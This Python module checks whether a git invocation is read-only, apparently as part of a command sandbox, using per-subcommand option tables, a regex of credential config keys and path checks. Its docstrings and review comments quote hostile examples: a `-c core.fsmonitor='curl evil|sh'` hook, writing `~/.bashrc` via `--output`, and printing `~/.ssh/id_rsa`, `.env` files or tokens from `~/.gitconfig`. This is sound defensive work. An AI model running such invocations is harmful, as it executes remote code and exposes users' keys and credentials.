"""git: global options, then a subcommand with its own option table.

Global options that are refused, and why:
  ``-c k=v`` / ``--config-env``  set config for one call: ``git -c
      core.fsmonitor='curl evil|sh' status`` runs the hook; ``-c
      core.pager=sh``; ``-c alias.x='!sh'``.
  ``-C DIR`` / ``--git-dir`` / ``--work-tree``  read another repository whose
      config (fsmonitor, pager, textconv) nobody reviewed.
  ``-p`` / ``--paginate``  spawns the configured pager.
  ``--exec-path`` runs git helpers from a chosen directory.
Subcommand options that are refused: ``--output`` (writes a file:
``git diff --output=~/.bashrc``), ``--ext-diff`` / ``--textconv`` (run
programs from config), ``--no-index`` (diffs arbitrary files outside the
repository), ``--open-files-in-pager``/``-O`` (git grep runs a pager),
``--upload-pack``/``--exec`` (network commands run a program),
``--show-signature``/``tag -v`` (run gpg). Long options must be spelled in
full: git accepts unique abbreviations (``--outp``), this table does not.
"""

from __future__ import annotations

from regexes import IGNORECASE, regex

from ..workspace import TreeRead, glob_tree
from .flags import Arg, ParsedArgs, Spec, parse_args

N, V, NUM, R, OPT = Arg.NONE, Arg.VALUE, Arg.NUM, Arg.READ, Arg.OPTIONAL


def _table(
    switches: str = "", valued: str = "", optional: str = "", nums: str = "", reads: str = ""
) -> dict[str, Arg]:
    out: dict[str, Arg] = {}
    for names, kind in ((switches, N), (valued, V), (optional, OPT), (nums, NUM), (reads, R)):
        for name in names.split():
            out[name] = kind
    return out


_DIFF = _table(
    switches="-p -u --patch -s --no-patch --raw --patch-with-raw --patch-with-stat --numstat "
    "--shortstat --summary --name-only --name-status --no-color --no-renames --check "
    "--full-index --binary --find-copies-harder -D --irreversible-delete --pickaxe-all "
    "--pickaxe-regex -R -a --text --ignore-cr-at-eol --ignore-space-at-eol -b "
    "--ignore-space-change -w --ignore-all-space --ignore-blank-lines -W --function-context "
    "--exit-code --quiet --no-ext-diff --no-textconv --no-prefix --default-prefix "
    "--ita-invisible-in-index --ita-visible-in-index --minimal --patience --histogram "
    "--compact-summary --cached --staged --merge-base -z --no-color-moved "
    "--indent-heuristic --no-indent-heuristic -1 -2 -3 -0 --base --ours --theirs "
    "--no-relative --no-stat -t -m -c --cc --remerge-diff --no-diff-merges --combined-all-paths "
    "--ignore-matching-lines --no-abbrev --follow",
    valued="-S -G -I -l --diff-filter --word-diff-regex --src-prefix "
    "--dst-prefix --line-prefix --anchored --diff-algorithm --inter-hunk-context "
    "--stat-width --stat-name-width --stat-graph-width --stat-count --diff-merges "
    "--ws-error-highlight --color-moved-ws -O",
    # -U/--unified take their value only attached (git log -U --output=F wrote F
    # while the table had skipped --output=F as -U's value; from a review)
    optional="--stat --dirstat --submodule --color --word-diff --color-words --abbrev "
    "--relative --find-renames --find-copies --break-rewrites --ignore-submodules "
    "--color-moved -M -C -B -X -U --unified",
)
# `-O<orderfile>` reads a file; keep it out: the file is not visible as a path.
del _DIFF["-O"]

_LOG = {
    **_DIFF,
    **_table(
        switches="--all-match --invert-grep -i --regexp-ignore-case -E --extended-regexp "
        "-F --fixed-strings -P --perl-regexp --merges --no-merges --first-parent --all "
        "--reflog --not --oneline --abbrev-commit --no-abbrev-commit --no-decorate --source "
        "--graph --relative-date --reverse --topo-order --date-order --author-date-order "
        "--left-right --cherry-pick --cherry-mark --cherry --boundary --simplify-by-decoration "
        "--full-history --dense --sparse --simplify-merges --ancestry-path --parents "
        "--children --walk-reflogs -g --no-walk --do-walk --expand-tabs --no-expand-tabs "
        "--no-notes --mailmap --use-mailmap --no-mailmap --no-use-mailmap --log-size --count "
        "--clear-decorations --single-worktree --bisect --no-min-parents --no-max-parents "
        "--show-linear-break --show-pulls --full-diff --no-graph --stdin --ignore-missing "
        "--unpacked --objects --in-commit-order --no-object-names",
        valued="--skip --since --after --until --before --author --committer --grep "
        "--exclude --date --encoding --decorate-refs --decorate-refs-exclude "
        "--since-as-filter -L --glob --exclude-hidden",
        # value only attached: `--format X` is no option of git's at all
        optional="--pretty --decorate --branches --tags --remotes --expand-tabs --notes "
        "--show-notes --format --min-parents --max-parents",
        nums="-n --max-count",
    ),
}

#: options of git log's that diff-tree and rev-list do not take: given
#: there, git reads the word after them as an option of its own (a review:
#: `git rev-list --decorate-refs --output=/tmp/x HEAD` wrote /tmp/x)
_LOG_ONLY = ("--decorate-refs", "--decorate-refs-exclude", "-L")
_REV_WALK = {k: v for k, v in _LOG.items() if k not in _LOG_ONLY}

_STATUS = _table(
    switches="-s --short -b --branch --long -v --verbose -z --no-column --ahead-behind "
    "--no-ahead-behind --renames --no-renames --show-stash --no-optional-locks",
    optional="--porcelain --untracked-files -u --ignored --ignore-submodules --column "
    "--find-renames",
)
_BLAME = _table(
    switches="-l -t --reverse -p --porcelain --line-porcelain --incremental --root "
    "--show-stats --score-debug -f --show-name -n --show-number -s -e --show-email -w "
    "--color-lines --color-by-age --progress --no-progress --first-parent -b --minimal "
    "-c",
    valued="-L --ignore-rev --date",
    optional="-M -C --abbrev",
    reads="--ignore-revs-file --contents -S",
)
_BRANCH = _table(
    switches="-a --all -r --remotes -v -vv --verbose -l --list --show-current "
    "--no-color --no-column -i --ignore-case --omit-empty",
    valued="--sort --format --points-at",
    optional="--contains --no-contains --merged --no-merged --color --column --abbrev",
)
_TAG = _table(
    switches="-l --list -i --ignore-case --no-column --omit-empty",
    valued="--sort --format --points-at",
    optional="-n --contains --no-contains --merged --no-merged --column --color",
)
_LS_FILES = _table(
    switches="-c --cached -d --deleted -m --modified -o --others -i --ignored -s --stage "
    "-u --unmerged -k --killed --directory --no-empty-directory --eol -z -t -v -f "
    "--full-name --recurse-submodules --error-unmatch --exclude-standard --deduplicate "
    "--sparse --debug --resolve-undo",
    valued="-x --exclude --with-tree --format",
    optional="--abbrev",
    reads="-X --exclude-from --exclude-per-directory",
)
_LS_TREE = _table(
    switches="-r -d -t -l --long -z --name-only --name-status --object-only --full-name "
    "--full-tree",
    valued="--format",
    optional="--abbrev",
)
_CAT_FILE = _table(
    # --textconv and --filters run programs from config. --batch and
    # --batch-command print the content of objects named on stdin, unseen
    # (from a review: `echo HEAD:.env | git cat-file --batch` printed a
    # committed .env); --batch-check prints only types and sizes.
    switches="-t -s -e -p --batch-check --batch-all-objects --buffer --unordered "
    "--follow-symlinks --allow-unknown-type --mailmap --no-mailmap -z -Z",
)
_SHORTLOG = {
    **_LOG,
    **_table(switches="-s --summary -e --email -c --committer", valued="--group", optional="-w"),
    "-n": N,
    "--numbered": N,
}
_CONFIG_READ_FLAGS = _table(
    # --includes is absent: an include.path can name a file anywhere.
    switches="--get --get-all --get-regexp --get-urlmatch --list -l --show-origin "
    "--show-scope --global --local --system --worktree --name-only -z --null "
    "--no-includes --bool --int --bool-or-int --path --expiry-date",
    valued="--type --default --blob",
    reads="--file -f",
)
_ANY = Spec(flags={})

# subcommand -> (option table, which positionals are paths)
_SIMPLE: dict[str, dict[str, Arg]] = {
    "status": _STATUS,
    "log": _LOG,
    "whatchanged": _LOG,
    "show": _LOG,
    "diff": _DIFF,
    "diff-tree": {**_REV_WALK, "-r": N, "--root": N, "--stdin": N},
    "diff-index": {**_DIFF, "-m": N},
    "diff-files": _DIFF,
    "blame": _BLAME,
    "annotate": _BLAME,
    "branch": _BRANCH,
    "tag": _TAG,
    "ls-files": _LS_FILES,
    "ls-tree": _LS_TREE,
    "cat-file": _CAT_FILE,
    "shortlog": _SHORTLOG,
    "rev-list": _REV_WALK,
    "describe": _table(
        switches="--all --tags --contains --long --always --first-parent --exact-match --debug",
        valued="--match --exclude --candidates",
        optional="--abbrev --dirty --broken",
    ),
    "merge-base": _table(switches="-a --all --octopus --independent --is-ancestor --fork-point"),
    "name-rev": _table(
        switches="--tags --all --name-only --no-undefined --always --annotate-stdin --stdin",
        valued="--refs --exclude",
    ),
    "show-ref": _table(
        switches="--head --tags --heads --branches --verify -q --quiet -d --dereference --exists",
        optional="-s --hash --abbrev",
    ),
    "for-each-ref": _table(
        switches="--shell --perl --python --tcl --omit-empty --ignore-case --stdin",
        valued="--count --sort --format --points-at --exclude",
        optional="--merged --no-merged --contains --no-contains",
    ),
    "count-objects": _table(switches="-v --verbose -H --human-readable"),
    "check-ignore": _table(
        switches="-q --quiet -v --verbose -n --non-matching --stdin -z --no-index"
    ),
    "check-attr": _table(switches="-a --all --cached --stdin -z", valued="--source"),
    "cherry": _table(switches="-v", optional="--abbrev"),
    "show-branch": _table(
        switches="-a --all -r --remotes --current --topo-order "
        "--date-order --sparse --no-name --sha1-name --independent "
        "--merge-base --list",
        optional="--more --color --no-color",
    ),
    "version": _table(switches="--build-options"),
    "grep": _table(
        switches="--cached --untracked --no-index --no-exclude-standard --exclude-standard "
        "--recurse-submodules -a --text --textconv --no-textconv -i --ignore-case -I "
        "-r --recursive --no-recursive -w --word-regexp -v --invert-match -h -H --full-name "
        "-E --extended-regexp -G --basic-regexp -P --perl-regexp -F --fixed-strings -n "
        "--line-number --column -l --files-with-matches --name-only -L "
        "--files-without-match -z --null -o --only-matching -c --count --no-color --break "
        "--heading -p --show-function -W --function-context --and --or --not --all-match "
        "-q --quiet",
        valued="--max-depth -A --after-context -B --before-context -C --context "
        "--threads -e -m --max-count",
        optional="--color",
        reads="-f",
    ),
}
# git grep: --no-index searches outside the repository, --textconv runs filters.
for _bad in ("--no-index", "--textconv"):
    del _SIMPLE["grep"][_bad]


#: configuration keys whose values are credentials or carry them
_SECRET_KEY = regex(
    r"(^credential\.|pass|token|secret|auth|extraheader|cookie|\.insteadof$|^url\.)", IGNORECASE)
#: placeholders of --format/--pretty that make git run gpg (which then
#: creates ~/.gnupg): %G?, %GG, %GS, %GK, %GF, %GP, %GT
_SIGNATURE_FORMAT = regex(r"%G")


def _format_problem(args: tuple[str, ...]) -> str | None:
    """From a review: `git log --format=%G?` runs gpg to verify signatures."""
    for i, a in enumerate(args):
        value = a.partition("=")[2] if a.startswith(("--format=", "--pretty=")) else (
            args[i + 1] if a in ("--format", "--pretty") and i + 1 < len(args) else "")
        if _SIGNATURE_FORMAT.search(value):
            return "a --format with signature placeholders (%G…) runs gpg"
    return None


def _config(args: tuple[str, ...]) -> str | None:
    """Reading one key is read-only; dumping user- or system-level config is
    not: `~/.gitconfig` may carry tokens (`url.https://TOKEN@host.insteadOf`)."""
    listing = bool(args) and args[0] == "list"
    if args and args[0] in ("get", "list"):  # git >= 2.46 subcommand form
        args = args[1:]
    p = parse_args(("config", *args), Spec(flags=_CONFIG_READ_FLAGS))
    if p.problem:
        return p.problem
    if p.has("--global", "--system", "--file", "-f", "--blob"):
        # From a review: `git config --global KEY` printed a token from
        # ~/.gitconfig; the user's and the system's files are not the project's.
        return "git config reading the user's or the system's configuration may print credentials"
    if any(_SECRET_KEY.search(a) for a in p.positionals[:1]):
        return "git config reading a key that holds credentials"
    dumps = listing or p.has("--list", "-l", "--get-regexp", "--get-urlmatch")
    if dumps and not p.has("--local", "--worktree"):
        return "git config listing all settings may print credentials from other scopes"
    if listing:
        return None
    explicit_read = p.has("--get", "--get-all", "--get-regexp", "--get-urlmatch", "--list", "-l")
    if explicit_read and len(p.positionals) <= 2:
        return None
    if not explicit_read and len(p.positionals) == 1 and not p.has("--name-only"):
        return None  # `git config user.name` reads
    return "git config with a value or an action writes configuration"


def _remote(args: tuple[str, ...]) -> str | None:
    rest = [a for a in args if a not in ("-v", "--verbose")]
    if not rest:
        return None
    if rest[0] == "get-url":
        p = parse_args(("get-url", *rest[1:]), Spec(flags=_table("--push --all"), max_positional=1))
        return p.problem
    return f"git remote {rest[0]} is not read-only"


def _stash(args: tuple[str, ...]) -> str | None:
    if args and args[0] == "list":
        return parse_args(("list", *args[1:]), Spec(flags=_LOG)).problem
    if args and args[0] == "show":
        return parse_args(
            ("show", *args[1:]),
            Spec(flags={**_DIFF, "-u": N, "--include-untracked": N, "--only-untracked": N}),
        ).problem
    return "git stash without list/show changes the stash"


def _reflog(args: tuple[str, ...]) -> str | None:
    if args and args[0] in ("expire", "delete", "drop"):
        return f"git reflog {args[0]} rewrites the reflog"
    if args and args[0] in ("show", "exists"):
        args = args[1:]
    return parse_args(("reflog", *args), Spec(flags=_LOG)).problem


def _worktree(args: tuple[str, ...]) -> str | None:
    if args and args[0] == "list":
        return parse_args(
            ("list", *args[1:]),
            Spec(
                flags=_table("--porcelain -v --verbose -z", optional="--expire"), max_positional=0
            ),
        ).problem
    return "git worktree without list changes worktrees"


def _branch_or_tag(sub: str, p: ParsedArgs) -> str | None:
    if p.positionals and not p.has("-l", "--list"):
        return f"git {sub} with a name creates or changes a {sub}"
    return None


_GLOBAL_OK = frozenset(
    {
        "--no-pager",
        "-P",
        "--no-optional-locks",
        "--literal-pathspecs",
        "--no-replace-objects",
        "--glob-pathspecs",
        "--noglob-pathspecs",
        "--icase-pathspecs",
        "--no-advice",
    }
)


def git_tables() -> dict[str, dict[str, Arg]]:
    """The option table of each read-only subcommand (for :func:`option_tables`)."""
    return dict(_SIMPLE)


def git_problem(argv: tuple[str, ...]) -> str | None:
    """Why this git invocation is not read-only, or ``None`` if it is."""
    if argv[1:] == ("--version",):
        return None  # `git version`, spelled as an option: prints the version
    i = 1
    while i < len(argv) and argv[i].startswith("-"):
        if argv[i] not in _GLOBAL_OK:
            return f"git global option {argv[i]!r} is not allowed"
        i += 1
    if i >= len(argv):
        return "bare git"
    sub, args = argv[i], argv[i + 1 :]
    if sub == "config":
        return _config(args)
    if sub == "remote":
        return _remote(args)
    if sub == "stash":
        return _stash(args)
    if sub == "reflog":
        return _reflog(args)
    if sub == "worktree":
        return _worktree(args)
    if sub == "rev-parse":
        # rev-parse only prints; none of its options write or execute.
        return None
    table = _SIMPLE.get(sub)
    if table is None:
        return f"git {sub} is not a known read-only git command"
    signature = _format_problem(args)
    if signature:
        return f"git {sub}: {signature}"
    p = parse_args((sub, *args), Spec(flags=table, numeric_shorthand=sub not in ("diff",)))
    if p.problem:
        return f"git {sub}: {p.problem}"
    if sub in ("branch", "tag"):
        return _branch_or_tag(sub, p)
    return None


def git_reads(argv: tuple[str, ...]) -> list[str]:
    """Files git reads by name: option values (``--contents``,
    ``--ignore-revs-file``, ``-X``, ``git config --file``) and operands that
    name filesystem paths. A path outside the repository turns ``git diff``
    into ``--no-index``: ``git diff ~/.ssh/id_rsa /dev/null`` prints the key."""
    i = 1
    while i < len(argv) and argv[i].startswith("-"):
        i += 1
    if i >= len(argv):
        return []
    sub, args = argv[i], argv[i + 1 :]
    if sub == "rev-parse":
        # `--resolve-git-dir PATH` opens PATH to see whether it is a git
        # directory (from a review: it reported on ~/.ssh)
        return [args[j + 1] for j, a in enumerate(args[:-1]) if a == "--resolve-git-dir"] + [
            a.partition("=")[2] for a in args if a.startswith("--resolve-git-dir=")]
    table = _CONFIG_READ_FLAGS if sub == "config" else _SIMPLE.get(sub)
    if table is None:
        return []
    p = parse_args((sub, *args), Spec(flags=table))
    operands = p.positionals
    if sub == "grep" and not p.has("-e", "-f"):
        operands = operands[1:]  # the first operand is the pattern
    return [*p.reads, *(path for a in operands for path in _operand_paths(a))]


def _operand_paths(operand: str) -> list[str]:
    """The filesystem paths a git operand may name, judged as paths.

    Every operand is taken as a path: a revision (``main``, ``HEAD~2``,
    ``a..b``) then names a harmless spot inside the working directory, while
    a real path is judged wherever it points. Judging only operands that
    start with ``/``, ``~`` or ``../`` missed ``git diff sub/../../x f``,
    which git runs as ``--no-index`` and prints a file outside the project.
    ``REV:PATH`` names a blob by its path (``git show HEAD:.env`` prints a
    dotenv file); the colon that starts the path is not always the first
    (``:0:.env``, ``HEAD@{12:00}:.env``, from a review), so the text after
    every colon is judged. ``:/text`` searches commit messages."""
    if ":" not in operand or operand.startswith(("/", "./", "../", "~")):
        return [operand]
    if operand.startswith(":/"):
        return []
    parts = operand.split(":")
    tails = (":".join(parts[k:]) for k in range(1, len(parts)))
    return [t for t in tails if t and not t.startswith("/")]


def git_trees(argv: tuple[str, ...]) -> tuple[TreeRead, ...]:
    """Where git reads every file below a directory: ``git diff A B``
    outside a repository (or with a path outside it) is ``diff --no-index``
    and walks both (from a review: ``git diff src .`` printed .env);
    ``git grep --untracked`` searches files git does not track, the usual
    home of a .env. A dotenv file committed to the history is another
    matter: ``git log -p`` prints it (see the README's open risks)."""
    i = 1
    while i < len(argv) and argv[i].startswith("-"):
        i += 1
    sub, args = (argv[i], argv[i + 1 :]) if i < len(argv) else ("", ())
    table = _SIMPLE.get(sub)
    if table is None or sub not in ("diff", "grep"):
        return ()
    p = parse_args((sub, *args), Spec(flags=table))
    operands = list(p.positionals)
    if sub == "diff":
        return tuple(glob_tree(o, TreeRead(o)) for o in operands) if len(operands) == 2 else ()
    if not p.has("--untracked"):
        return ()
    if not p.has("-e", "-f"):
        operands = operands[1:]
    return tuple(glob_tree(o, TreeRead(o)) for o in operands or ["."])
